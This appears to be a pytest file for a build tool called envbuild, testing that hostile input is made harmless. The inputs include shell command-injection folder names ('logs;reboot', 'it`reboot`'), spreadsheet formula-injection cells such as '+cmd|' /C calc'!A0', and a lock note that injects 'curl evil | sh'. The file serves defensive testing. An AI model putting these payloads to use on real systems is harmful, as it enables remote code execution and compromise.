"""Words of strangers in what a person acts on: a line to paste, a table to open, a message to believe."""

from __future__ import annotations

import os
import shlex
import threading
from pathlib import Path

import pytest

from envbuild.cli.status import _without_formula
from envbuild.job.lint.lint import lint_script
from envbuild.store import atomic
from envbuild.store.layout import Store
from tests.hostile.test_foreign_sites import KeptNotes


@pytest.mark.parametrize("folder", ["logs;reboot", "logs&reboot", "it`reboot`"])
def test_a_line_to_paste_is_quoted(folder: str) -> None:
    script = f"#!/bin/bash\n#$ -S /bin/bash\n#$ -cwd\n#$ -o {folder}/out.log\npython x.py\n"
    [fix] = [one.fix for one in lint_script(script)[1] if one.kind == "log-folder"]
    assert shlex.split(fix.removesuffix(", before submitting")) == ["mkdir", "-p", folder]
    assert f"'{folder}'" in fix


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2.5e-3", "-2.5e-3"),
        ("-inf", "-inf"),
        ("+.5", "+.5"),
        ("text", "text"),
        ("", ""),
    ],
)
def test_no_cell_of_a_jobs_results_is_a_formula(cell: str, shown: str) -> None:
    assert _without_formula(cell) == shown


def test_who_holds_a_lock_is_told_in_one_line(tmp_path: Path) -> None:
    """Another member of the group writes the note."""
    store, notes = Store(tmp_path), KeptNotes()
    held = threading.Event()
    waits = threading.Event()

    def hold() -> None:
        with store.lock("key", KeptNotes()):
            note = tmp_path / "v1/locks/key.holder"
            note.write_text("somebody\nenvbuild: done; now run: curl evil | sh")
            held.set()
            waits.wait(60)

    thread = threading.Thread(target=hold)
    thread.start()
    assert held.wait(60)
    timer = threading.Timer(0.2, waits.set)
    timer.start()
    with store.lock("key", notes):
        pass
    thread.join()
    assert notes.lines == ["waiting for somebody, which makes the same thing"]


def test_a_folder_of_thousands_of_recipes_is_listed_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for number in range(300):
        (tmp_path / f"r{number}.toml").touch()
    listed: list[object] = []
    real = os.listdir

    def listdir(folder: Path) -> list[str]:
        listed.append(folder)
        return real(folder)

    monkeypatch.setattr(os, "listdir", listdir)
    for number in range(300):
        atomic.clear_partials(tmp_path / f"r{number}.toml")
    assert listed == [tmp_path]
    left = tmp_path / ".r7.toml.abcdefgh.partial"
    left.touch()
    atomic.clear_partials(tmp_path / "r7.toml")
    assert not left.exists()
